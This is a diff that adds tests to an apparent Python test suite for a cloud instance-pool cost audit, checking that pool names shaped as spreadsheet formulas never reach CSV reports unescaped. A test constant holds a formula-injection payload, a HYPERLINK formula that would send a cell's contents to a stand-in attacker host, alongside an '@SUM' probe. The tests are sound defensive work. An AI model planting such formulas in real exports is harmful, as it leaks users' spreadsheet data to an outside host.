@@ -17,6 +17,7 @@ Jobs: running on small-1 and small-2 (busy), running on the pending and the stop
 busy: only running instances are busy), completed on small-3 (idle).
 """
 
+import csv
 import datetime as dt
 import io
 import json
@@ -167,6 +168,45 @@ def test_bad_pool_items_are_reported_never_priced_at_zero():
     assert result.totals["running"] == 1
     assert result.totals["running_left_out_of_totals"] == 4
     assert result.totals["compute_cost_usd_per_hour"] == 0.0
+
+
+FORMULA = '=HYPERLINK("https://attacker.example/?"&A1,"open")'
+"""A pool name as another system could write it to the pools table or the ``runs-fleet:pool`` tag."""
+
+
+def _formula_cells(csv_text: str) -> list[str]:
+    """The cells a spreadsheet would take for a formula (a leading =, +, - or @; a number is not one)."""
+    cells = [cell for row in csv.reader(io.StringIO(csv_text)) for cell in row]
+    return [c for c in cells if c[:1] in ("=", "+", "-", "@") and not c.lstrip("+-").replace(".", "").isdigit()]
+
+
+def test_a_pool_name_that_is_not_plain_is_its_rows_problem_and_never_starts_a_csv_cell_with_a_formula():
+    pools = [{"pool_name": FORMULA, "instance_type": "t3.small", "desired_idle": 1}, POOLS[0]]
+    rows = [
+        {"instance_id": "i-formula1", "state": "running", "pool": FORMULA, "instance_type": "t3.small"},
+        {"instance_id": "i-formula2", "state": "running", "pool": "@SUM(1+1)", "instance_type": "t3.small"},
+        {"instance_id": "i-small1", "state": "running", "pool": "small", "instance_type": "t3.small"},
+    ]
+    result = audit_pools(pools, rows, set(), PRICES)
+    assert _formula_cells(result.table.to_csv(index=False)) == []
+    problems = dict(zip(result.table["pool"], result.table["problem"], strict=True))
+    assert problems[repr(FORMULA)].startswith("pool_name is not a plain name")
+    assert problems["'@SUM(1+1)'"] == "pool tag names no pool in the pools table"
+    assert result.totals["pools_in_totals"] == 1  # small
+    assert result.totals["running_left_out_of_totals"] == 2  # both instances are counted, out of the totals
+    assert result.unknown_pool_instances["pool"].tolist() == ["'@SUM(1+1)'"]
+    datums, skipped = pool_audit_module.metric_datums(result.table, dt.datetime(2026, 11, 21, tzinfo=dt.UTC))
+    assert {d["Dimensions"][0]["Value"] for d in datums} == {"small"}
+    assert skipped == [repr(FORMULA)]
+
+
+def test_the_daily_report_never_starts_a_csv_cell_with_a_formula_from_an_older_snapshot():
+    day = dt.datetime(2026, 11, 21, tzinfo=dt.UTC)
+    rows = [_snapshot("2026-11-21T00:00:00Z", compute=6.0, idle=3.0, pool=FORMULA)]
+    report, totals = daily_report(pd.DataFrame(rows), day, dt.timedelta(minutes=30))
+    assert _formula_cells(report.to_csv(index=False)) == []
+    assert report["pool"].tolist() == [repr(FORMULA)]
+    assert totals["cost_usd"] == pytest.approx(6.0 / 2)  # counted all the same
 
 
 def test_no_instances_and_no_pools():
